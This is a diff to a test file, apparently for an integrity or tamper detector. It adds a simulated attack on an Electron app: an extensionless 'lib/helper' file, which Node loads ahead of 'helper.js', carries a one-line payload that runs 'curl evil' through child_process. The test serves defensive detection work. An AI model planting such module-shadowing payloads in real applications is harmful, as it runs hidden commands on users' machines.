@@ -39,6 +39,8 @@ function contoso(root: string, get: Get, version: '2.0.5' | '2.0.6', prefix = ''
   put(root, at('prebuilds/win32-x64/pty.node'), readFileSync(realCorpusPath('pty-node')));
   put(root, at('v8_context_snapshot.bin'), Buffer.alloc(4096, 7));
   put(root, at('python/Lib/site.py'), 'import os\n');
+  put(root, at('resources/app/main.js'), "require('./lib/helper')\n");
+  put(root, at('resources/app/lib/helper.js'), 'module.exports = 1\n');
 }
 
 interface Attack {
@@ -160,6 +162,16 @@ const ATTACKS: Attack[] = [
     from: 'contoso (Electron layout)',
     expect: 'high',
     steps: [(r) => put(r, 'v8_context_snapshot.bin', Buffer.alloc(4096, 9))],
+  },
+  {
+    name: 'an unpacked Electron app (resources/app/): an extensionless `lib/helper` dropped beside `lib/helper.js` (Node loads it first for `require(\'./lib/helper\')`), version unchanged',
+    from: 'contoso with resources/app/',
+    expect: 'high',
+    steps: [
+      (r) => {
+        put(r, 'resources/app/lib/helper', "require('child_process').exec('curl evil')\n");
+      },
+    ],
   },
   {
     name: 'bundled Python: sitecustomize.py dropped beside site.py (runs at interpreter start-up), version unchanged',
